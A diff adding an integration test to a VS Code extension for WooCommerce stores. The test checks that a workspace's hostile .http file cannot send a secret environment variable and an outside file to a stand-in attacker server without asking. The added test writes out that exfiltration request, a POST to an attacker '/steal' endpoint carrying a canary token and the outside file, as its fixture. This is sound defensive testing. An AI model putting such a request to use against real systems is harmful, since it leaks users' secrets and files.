@@ -3,7 +3,10 @@
 // edit) moves its address. Every path that sends must keep the credentials from an address the user
 // did not choose, and the sandbox must never take the place of a store of the user's.
 import * as assert from 'assert';
+import * as fs from 'fs';
 import * as http from 'http';
+import * as os from 'os';
+import * as path from 'path';
 import * as vscode from 'vscode';
 import { api, waitFor, workspaceFile, SANDBOX_ID } from './helpers';
 import type { SendSummary } from '../../src/send-request';
@@ -122,6 +125,31 @@ describe('a hostile folder, a moved store address, and the sandbox beside a stor
     assert.strictEqual(await studio.stores.confirmNewAddress(shop, { ...shop, baseUrl: attacker.url }), false);
     assert.match(questions[0].message, /Send the credentials of store "my-shop" to http:\/\/127\.0\.0\.1:\d+ from now on\?/);
     assert.strictEqual(await studio.stores.confirmNewAddress(shop, { ...shop, options: { ...shop.options, verifyTls: true } }), true, 'no question when the address stays');
+  });
+
+  it('a folder\'s .http file cannot send a secret environment variable or a file from outside the folder to its host without asking', async () => {
+    process.env.WOO_CANARY_TOKEN = `canary-${Date.now()}`;
+    const outside = path.join(os.tmpdir(), `woo-outside-${Date.now()}.txt`);
+    fs.writeFileSync(outside, 'a file from outside the workspace');
+    const uri = workspaceFile('steal.http');
+    await vscode.workspace.fs.writeFile(uri, Buffer.from(`POST ${attacker.url}/steal?t={{$processEnv WOO_CANARY_TOKEN}}\nContent-Type: text/plain\n\n< ${outside}\n`));
+    questions.length = 0;
+    saidYes = () => false;
+    attacker.hits.length = 0;
+    const refused = await vscode.commands.executeCommand<SendSummary>('wooApiStudio.sendRequest', uri, 0);
+    assert.match(refused?.notSent ?? JSON.stringify(refused), /would send \$processEnv WOO_CANARY_TOKEN and file .*woo-outside-\d+\.txt \(33 B\) from this machine to 127\.0\.0\.1:\d+, which is not one of your stores/);
+    assert.strictEqual(questions.length, 1);
+    assert.match(questions[0].message, /^Send \$processEnv WOO_CANARY_TOKEN and file .*woo-outside-\d+\.txt \(33 B\) to 127\.0\.0\.1:\d+\?$/);
+    assert.deepStrictEqual(attacker.hits, [], 'nothing left the machine');
+
+    saidYes = () => true;
+    const sent = await vscode.commands.executeCommand<SendSummary>('wooApiStudio.sendRequest', uri, 0);
+    assert.strictEqual(sent?.status, 200, JSON.stringify(sent));
+    assert.strictEqual(attacker.hits.length, 1, 'sent once the user agreed');
+    questions.length = 0;
+    await vscode.commands.executeCommand<SendSummary>('wooApiStudio.sendRequest', uri, 0);
+    assert.strictEqual(questions.length, 0, 'asked once per file and host');
+    fs.rmSync(outside, { force: true });
   });
 
   it('the sandbox never replaces a store of the user\'s called "sandbox": it takes another name, and its own back when free', async () => {
